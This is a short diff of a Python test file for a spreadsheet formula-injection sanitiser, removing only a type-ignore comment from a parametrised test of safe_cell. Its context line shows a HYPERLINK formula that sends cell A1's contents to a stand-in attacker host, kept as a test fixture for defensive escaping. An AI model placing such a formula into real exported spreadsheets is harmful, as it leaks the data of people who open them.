@@ -23,7 +23,7 @@ HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"詳細")'
     ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("＝１＋１", "'＝１＋１"),
     ("見守り", "見守り"), ("a=b", "a=b"), ("", ""), (3, 3), (-2, -2), (0.5, 0.5),
 ])
-def test_safe_cell(value, expected) -> None:  # type: ignore[no-untyped-def]
+def test_safe_cell(value, expected) -> None:
     assert safe_cell(value) == expected
 
 
